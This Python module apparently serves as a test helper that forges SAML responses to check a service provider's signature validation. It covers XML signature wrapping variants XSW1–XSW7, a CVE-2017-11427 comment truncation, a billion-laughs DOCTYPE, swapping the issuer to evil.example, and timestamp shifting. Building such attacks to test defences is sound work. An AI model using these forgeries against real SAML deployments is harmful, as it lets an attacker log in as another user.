"""SAML answers as attackers rewrite them: signature wrapping (XSW), after Somorovsky et
al., "On Breaking SAML" (USENIX Security 2012); and other times.
"""

import copy
import re
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from typing import Any

from lxml import etree

NAMES = {
    "p": "urn:oasis:names:tc:SAML:2.0:protocol",
    "a": "urn:oasis:names:tc:SAML:2.0:assertion",
    "d": "http://www.w3.org/2000/09/xmldsig#",
}
MOMENT = re.compile(r"(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ)")
VICTIM, ATTACKER = "ada", "maya"


def _parts(written: str) -> tuple[Any, Any, Any]:
    root = etree.fromstring(written.encode())
    assertion = root.find("a:Assertion", NAMES)
    assert assertion is not None
    return root, assertion, assertion.find("d:Signature", NAMES)


def _forged(assertion: Any) -> Any:
    """A copy that says it is the victim, with an id of its own and no signature."""
    forged = copy.deepcopy(assertion)
    forged.remove(forged.find("d:Signature", NAMES))
    forged.set("ID", "_forged")
    words = etree.tostring(forged).decode().replace(ATTACKER, VICTIM)
    return etree.fromstring(words.encode())


def _text(root: Any) -> str:
    return str(etree.tostring(root).decode())


def envelope_in_its_signature(written: str) -> str:
    """XSW1: a forged envelope, whose signature holds the true one."""
    forged, true, signature = _envelopes(written)
    signature.append(true)
    forged.insert(1, signature)
    return _text(forged)


def envelope_beside_its_signature(written: str) -> str:
    """XSW2: a forged envelope holds the true one and its signature."""
    forged, true, signature = _envelopes(written)
    forged.insert(1, true)
    forged.insert(2, signature)
    return _text(forged)


def _envelopes(written: str) -> tuple[Any, Any, Any]:
    """A forged one, the true one, and the signature that was taken from it."""
    true = etree.fromstring(written.encode())
    signature = true.find("d:Signature", NAMES)
    assert signature is not None
    true.remove(signature)
    words = etree.tostring(true).decode().replace(ATTACKER, VICTIM)
    forged = etree.fromstring(words.encode())
    forged.set("ID", "_forged")
    return forged, true, signature


def in_an_extension(written: str) -> str:
    """XSW7: the forged one lies in an Extensions element, with the same id."""
    root, assertion, _ = _parts(written)
    forged = _forged(assertion)
    forged.set("ID", assertion.get("ID"))
    holder = etree.Element(f"{{{NAMES['p']}}}Extensions")
    holder.append(forged)
    root.insert(1, holder)
    return _text(root)


def of_another_issuer(written: str) -> str:
    """Both say another issuer; without the signature, which no longer holds."""
    root, assertion, signature = _parts(written)
    for each in root.iterfind(".//a:Issuer", NAMES):
        each.text = "https://evil.example/metadata"
    assertion.remove(signature)
    return _text(root)


def before_the_signed(written: str) -> str:
    """XSW3: the forged one stands first, beside the signed one."""
    root, assertion, _ = _parts(written)
    assertion.addprevious(_forged(assertion))
    return _text(root)


def around_the_signed(written: str) -> str:
    """XSW4: the forged one holds the signed one."""
    root, assertion, _ = _parts(written)
    forged = _forged(assertion)
    root.replace(assertion, forged)
    forged.append(assertion)
    return _text(root)


def signed_in_the_signature(written: str) -> str:
    """XSW6: the forged one has the signature, and the signed one lies in an Object of
    it.
    """
    root, assertion, signature = _parts(written)
    forged = _forged(assertion)
    root.replace(assertion, forged)
    assertion.remove(signature)
    holder = etree.SubElement(signature, f"{{{NAMES['d']}}}Object")
    holder.append(assertion)
    forged.insert(1, signature)
    return _text(root)


def same_id(written: str) -> str:
    """XSW5: two assertions of one id, the forged one with the signature."""
    root, assertion, signature = _parts(written)
    forged = _forged(assertion)
    forged.set("ID", assertion.get("ID"))
    assertion.remove(signature)
    forged.insert(1, signature)
    assertion.addprevious(forged)
    return _text(root)


def comment_in_the_name(written: str) -> str:
    """CVE-2017-11427: a comment, which the signature does not see, cuts the name."""
    return written.replace(f">{ATTACKER}<", f">{ATTACKER}<!-- -->.evil<")


def document_type(written: str) -> str:
    """A billion laughs, were it read."""
    _, _, body = written.partition("?>")
    rest = body or written
    return f'<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>{rest}'


def changed(written: str) -> str:
    """The words are changed, the signature stays."""
    return written.replace(ATTACKER, VICTIM)


ATTACKS: dict[str, Callable[[str], str]] = {
    "XSW1": envelope_in_its_signature,
    "XSW2": envelope_beside_its_signature,
    "XSW3": before_the_signed,
    "XSW4": around_the_signed,
    "XSW5": same_id,
    "XSW6": signed_in_the_signature,
    "XSW7": in_an_extension,
    "comment": comment_in_the_name,
    "document type": document_type,
    "changed": changed,
}


def moved(written: str, by: timedelta) -> str:
    """Every time of the answer moved; without its signature, which no longer holds."""
    root, assertion, signature = _parts(
        MOMENT.sub(lambda found: _moved(found.group(1), by), written)
    )
    if signature is not None:
        assertion.remove(signature)
    return _text(root)


def _moved(moment: str, by: timedelta) -> str:
    read = datetime.strptime(moment, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=UTC)
    return (read + by).strftime("%Y-%m-%dT%H:%M:%SZ")


def signed_again(written: str, signer: Any) -> str:
    from saml2 import class_name, samlp
    from saml2 import xmldsig as ds
    from saml2.sigver import pre_signature_part

    answer = samlp.response_from_string(written)
    assertion = answer.assertion[0]
    assertion.signature = pre_signature_part(
        assertion.id,
        signer.sec.my_cert,
        1,
        sign_alg=ds.SIG_RSA_SHA256,
        digest_alg=ds.DIGEST_SHA256,
    )
    return str(
        signer.sec.sign_statement(
            str(answer), class_name(assertion), node_id=assertion.id
        )
    )
